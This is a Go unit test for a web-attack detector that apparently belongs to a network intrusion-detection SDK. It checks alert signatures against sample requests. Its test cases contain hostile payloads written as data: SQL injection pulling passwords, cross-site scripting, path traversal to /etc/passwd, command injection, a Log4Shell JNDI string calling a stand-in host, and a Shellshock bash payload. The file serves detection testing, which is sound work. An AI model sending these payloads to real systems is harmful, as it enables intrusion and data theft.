//go:build !wasip1

package main

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/firebreak-ir/firebreak/sdk"
)

func request(b *sdk.Builder, src, url, ua string) {
	b.Begin(sdk.Header{Kind: sdk.KindHTTP, Proto: 6, Src: netip.MustParseAddr(src), Dst: netip.MustParseAddr("10.0.0.80"), SrcPort: 50000, DstPort: 80})
	b.Str(sdk.FieldHTTPMethod, "GET")
	b.Str(sdk.FieldHTTPURL, url)
	b.Str(sdk.FieldHTTPUserAgent, ua)
	b.End()
}

func TestWebAttack(t *testing.T) {
	for _, tc := range []struct {
		url, ua string
		class   string // "" for none
	}{
		{"/index.php?id=1", "Mozilla/5.0", ""},
		{"/search?q=select+a+union+of+sets", "Mozilla/5.0", ""},
		{"/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", "Mozilla/5.0", "SQL injection"},
		{"/?q=%253Cscript%253Ealert(1)", "Mozilla/5.0", "cross-site scripting"},
		{"/download?f=..%2f..%2f..%2fetc%2fpasswd", "Mozilla/5.0", "path traversal"},
		{"/ping?host=1.1.1.1;cat%20/etc/hosts", "Mozilla/5.0", "command injection"},
		{"/", "${jndi:ldap://evil/a}", "Log4Shell (CVE-2021-44228)"},
		{"/cgi-bin/status", "() { :; }; /bin/bash -c id", "Shellshock (CVE-2014-6271)"},
		{"/", "sqlmap/1.7", "attack scanner"},
	} {
		t.Run(tc.url+" "+tc.ua, func(t *testing.T) {
			sdk.Test.Reset()
			w := &web{}
			if err := w.Init(nil); err != nil {
				t.Fatal(err)
			}
			var b sdk.Builder
			request(&b, "10.0.0.7", tc.url, tc.ua)
			request(&b, "10.0.0.7", tc.url, tc.ua) // the same again: no second alert
			if err := w.Batch(b.Batch()); err != nil {
				t.Fatal(err)
			}
			if tc.class == "" {
				if len(sdk.Test.Alerts) != 0 {
					t.Errorf("false positive: %v", sdk.Test.Alerts[0].Signature)
				}
				return
			}
			found := 0
			for _, a := range sdk.Test.Alerts {
				if strings.Contains(a.Signature, ": "+tc.class+" in ") {
					found++
				}
			}
			if found != 1 {
				var got []string
				for _, a := range sdk.Test.Alerts {
					got = append(got, a.Signature)
				}
				t.Errorf("want one %s alert, got %q", tc.class, got)
			}
		})
	}
}
